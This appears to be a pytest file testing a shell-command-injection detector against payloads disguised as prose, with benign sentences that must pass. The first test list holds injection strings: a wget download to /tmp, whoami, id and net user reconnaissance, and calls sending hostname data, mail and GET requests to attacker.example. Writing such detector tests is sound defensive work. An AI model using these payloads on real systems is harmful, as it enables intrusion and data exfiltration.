@@ -1,0 +1,93 @@
+"""What spares sentences, lists and tables that name commands; and commands dressed as such."""
+
+from __future__ import annotations
+
+import pytest
+from tests.support.suspects import STOPS, Suspects
+
+from vallum.inspection.detectors.shell import DETECTOR
+
+SUSPECTS = Suspects(DETECTOR)
+WORDS = "so we went to the old mill by the river and then all the way home again"
+"""A sentence, which a shell would only fail to run."""
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # Words among the arguments, and behind them.
+        "y; cat is it in /etc/shells",
+        "y;cat docs/notes.txt one of the to by us at it",
+        "$(cat is it in /etc/shells)",
+        "`cat is it in /etc/shells`",
+        "y; whoami # all of us here today",
+        "y | id # all of us here today",
+        f"y; wget http://files.example/a.sh -O /tmp/a ; {WORDS}",
+        f"y; whoami; {WORDS}",
+        f";/???/c?t /???/h?s?s # {WORDS}",
+        # Lines.
+        "3\nwhoami\n",
+        "3\n\n\nwhoami",
+        "3" + "\n" * 9 + "whoami",
+        # Parentheses and tables.
+        "y (& ipconfig /all",
+        "y (& net user /domain",
+        "| cat /etc/shells |",
+        ";whoami;a|---",
+        ";cat notes.txt;a|---",
+        # Marks of pages and of Markdown.
+        "3&gt;cat /etc/shells",
+        "3&b;cat /etc/shells",
+        "3&gt;ls -la",
+        "`b`;whoami",
+        "y`b`|id",
+        "$(hostname).attacker.example",
+        "y$(users).attacker.example",
+        "$(reboot).y",
+        # Lists.
+        "y&&id&&b&&c",
+        "y||ls||b||c",
+        # What programs say too.
+        "abc;source run.sh",
+        "abc;exec run.sh",
+        # Capitals on Windows.
+        "Ipconfig /all",
+        # Programs of mail and of the web, and a shell as an option.
+        ";sendmail a@attacker.example",
+        "y;sendmail -f b a@attacker.example",
+        ";GET http://attacker.example/",
+        "y|GET http://attacker.example/",
+        "-e sh",
+        "-c /bin/bash",
+    ],
+)
+def test_what_only_looks_like_prose_is_stopped(text: str) -> None:
+    assert SUSPECTS.score(text) >= STOPS
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Open a terminal; find the file in /etc/hosts and change it",
+        f"We talked; cat and dog slept, {WORDS}",
+        "Order; id #5 is the one that is missing",
+        f"{WORDS}; sort the letters",
+        "milk\ncat food\n",
+        "A note\n\nmore of it\n",
+        "cron: (root) CMD (cd / && run-parts /etc/cron.hourly)",
+        "| id | name |\n| --- | --- |\n| time | date |",
+        "Cats&nbsp;find mice",
+        "&lt;b&gt;sort&lt;/b&gt;",
+        "`a`; sort of `b`",
+        "$(link).click()",
+        "$(label).length",
+        "$(time).val(3)",
+        "Postfix, sendmail, exim",
+        "GET http://api.example/; then POST it",
+        "-e",
+        "-shirt",
+        "- each she",
+    ],
+)
+def test_prose_passes(text: str) -> None:
+    assert SUSPECTS.score(text) < STOPS
